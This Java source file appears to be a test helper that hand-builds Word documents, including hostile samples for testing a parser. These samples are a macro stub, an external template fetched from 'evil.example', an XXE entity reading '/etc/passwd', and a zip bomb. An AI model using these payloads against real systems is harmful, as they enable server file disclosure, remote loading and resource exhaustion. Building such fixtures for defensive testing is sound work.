package vn.tdkt.docx;

import static java.nio.charset.StandardCharsets.UTF_8;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.charset.Charset;
import java.util.LinkedHashMap;
import java.util.Map;
import java.util.stream.Collectors;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;
import org.w3c.dom.Element;

/** Small Word files made by hand, and what is written in one. */
public final class WordFiles {

    private static final String TYPES = """
            <Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">
            <Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>
            <Default Extension="xml" ContentType="application/xml"/>
            <Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/>
            </Types>""";

    private static final String OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/";

    private WordFiles() {}

    public static byte[] word(String body) {
        return Parts.write(parts(body));
    }

    /** To put something bad into. */
    static Map<String, byte[]> parts(String body) {
        Map<String, byte[]> parts = new LinkedHashMap<>();
        parts.put("[Content_Types].xml", TYPES.getBytes(UTF_8));
        parts.put(
                "_rels/.rels",
                relationships(
                                "<Relationship Id=\"rId1\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument\" Target=\"word/document.xml\"/>")
                        .getBytes(UTF_8));
        parts.put(
                "word/document.xml",
                ("<w:document xmlns:w=\"" + Xml.W + "\"><w:body>" + body
                                + (body.endsWith("</w:sectPr>") ? "" : "<w:sectPr/>") + "</w:body></w:document>")
                        .getBytes(UTF_8));
        return parts;
    }

    static String relationships(String relationships) {
        return "<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">" + relationships
                + "</Relationships>";
    }

    static void relate(Map<String, byte[]> parts, String type, String target) {
        parts.put(
                "word/_rels/document.xml.rels",
                relationships("<Relationship Id=\"r9\" Type=\"" + OFFICE + type + "\" Target=\"" + target
                                + "\" TargetMode=\"External\"/>")
                        .getBytes(UTF_8));
    }

    public static byte[] withMacro() {
        Map<String, byte[]> parts = parts("<w:p/>");
        parts.put("word/vbaProject.bin", new byte[10]);
        return Parts.write(parts);
    }

    public static byte[] withTemplateFromElsewhere() {
        Map<String, byte[]> parts = parts("<w:p/>");
        relate(parts, "attachedTemplate", "https://evil.example/t.dotm");
        return Parts.write(parts);
    }

    /** One that would read a file of the server, in that encoding. */
    public static byte[] withDoctype(Charset encoding) {
        Map<String, byte[]> parts = parts("<w:p/>");
        String bad = "<!DOCTYPE a [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><a>&x;</a>";
        parts.put(
                "customXml/item1.xml",
                ("<?xml version=\"1.0\" encoding=\"" + encoding + "\"?>" + bad).getBytes(encoding));
        return Parts.write(parts);
    }

    /** A small file of that many megabytes of blanks, which are never all held. */
    public static byte[] bomb(int megabytes) throws IOException {
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        try (ZipOutputStream zip = new ZipOutputStream(bytes)) {
            for (Map.Entry<String, byte[]> part : parts("<w:p/>").entrySet()) {
                zip.putNextEntry(new ZipEntry(part.getKey()));
                zip.write(part.getValue());
            }
            zip.putNextEntry(new ZipEntry("word/media/image1.png"));
            byte[] blanks = new byte[1024 * 1024];
            for (int i = 0; i < megabytes; i++) {
                zip.write(blanks);
            }
        }
        return bytes.toByteArray();
    }

    public static String xml(byte[] docx) {
        return part(docx, "word/document.xml");
    }

    static String part(byte[] docx, String name) {
        return new String(Parts.read(docx).getOrDefault(name, new byte[0]), UTF_8);
    }

    /** The paragraphs that are not empty, one a line. */
    public static String text(byte[] docx) {
        Element root = Xml.parse(Parts.read(docx).getOrDefault("word/document.xml", new byte[0]))
                .getDocumentElement();
        return Xml.descendants(root, "p").stream()
                .map(Element::getTextContent)
                .filter(line -> !line.isBlank())
                .collect(Collectors.joining("\n"));
    }
}
